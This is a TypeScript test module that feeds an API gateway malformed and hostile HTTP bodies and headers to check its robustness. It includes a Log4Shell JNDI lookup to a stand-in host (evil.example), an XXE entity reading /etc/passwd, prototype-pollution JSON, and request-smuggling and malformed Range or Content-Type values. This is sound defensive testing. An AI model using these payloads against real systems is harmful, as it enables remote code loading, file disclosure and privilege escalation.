import { type Attack, attack, attacks, POST_LINE } from './attack.js';

/** Nothing of the gateway parses these; they are the upstream's to judge, and pass byte for byte. */
const PASSED = [
  ...['{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"x":1}}}', '{"a":'.repeat(2_000)],
  ...[
    '\x00\x01\x02\xff',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    '\r\n\r\n',
    '0\r\n\r\n',
  ],
  ...[
    'GET /workspace/v3/smuggled HTTP/1.1\r\nHost: x\r\n\r\n',
    '\x1f\x8b\x08\x00',
    '${jndi:ldap://evil.example/x}',
  ],
];

const TYPES = [
  ...['application/json', 'application/json; charset=utf-7', 'text/html', 'multipart/form-data', ';;;', 'x'],
  ...[
    'multipart/form-data; boundary=',
    `multipart/form-data; boundary=${'b'.repeat(3_000)}`,
    'application/__proto__',
  ],
];

const ENCODINGS = ['gzip', 'deflate', 'br', 'gzip, gzip, gzip', 'identity', 'unknown', 'x-gzip;q=0'];

/** The gateway's own routes take no body, and none may make them fail. */
const OWN_ROUTES = [
  'POST /auth/session',
  'POST /auth/login',
  'POST /health/live',
  'PUT /auth/logout',
  'POST /',
];

const withBody = (body: string, ...fields: string[]) => ({
  line: POST_LINE,
  fields: [`Content-Length: ${body.length}`, ...fields],
  body,
});

export const bodyAttacks: readonly Attack[] = [
  ...attacks(1, PASSED, (body) => withBody(body, 'Content-Type: application/json')),
  ...attacks(1, TYPES, (type) => withBody('{}', `Content-Type: ${type}`)),
  ...attacks(1, ENCODINGS, (encoding) => withBody('{}', `Content-Encoding: ${encoding}`)),
  ...attacks(0, OWN_ROUTES, (route) => ({ ...withBody('{"__proto__":{}}'), line: `${route} HTTP/1.1` })),
  ...attacks(1, ['bytes=0-0,-1', 'bytes=999999999999999999999-', 'bytes=', 'x=1'], (range) => ({
    fields: [`Range: ${range}`],
  })),
  attack('a body that ends before its length', 0, {
    line: POST_LINE,
    without: ['connection'],
    fields: ['Content-Length: 100'],
    body: 'short',
  }),
  // The bytes behind it may end the connection before the answer is there.
  attack('a body longer than its length', 'maybe', {
    line: POST_LINE,
    fields: ['Content-Length: 2'],
    body: '{}GET / HTTP',
  }),
];
